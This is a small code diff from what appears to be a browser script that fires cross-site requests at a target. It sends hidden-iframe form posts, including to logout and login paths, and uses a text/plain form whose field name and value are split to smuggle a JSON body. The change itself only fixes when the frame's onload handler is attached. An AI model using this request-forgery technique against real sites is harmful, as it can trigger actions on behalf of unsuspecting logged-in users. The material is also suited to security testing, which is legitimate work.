@@ -39,8 +39,9 @@ const attempts = [
     socket.onerror = done
   }),
   ...[query, '/logout', '/login'].map(path => () => new Promise(done => {
-    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random(), onload: done})
+    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()})
     document.body.append(frame)
+    frame.onload = done  // from here on: the empty document has loaded while it was appended
     const form = Object.assign(document.createElement('form'), {method: 'post', enctype: 'text/plain',
       action: target + path, target: frame.name})
     form.append(Object.assign(document.createElement('input'), {name: json.slice(0, -1) + ', "x', value: '": 1}'}))
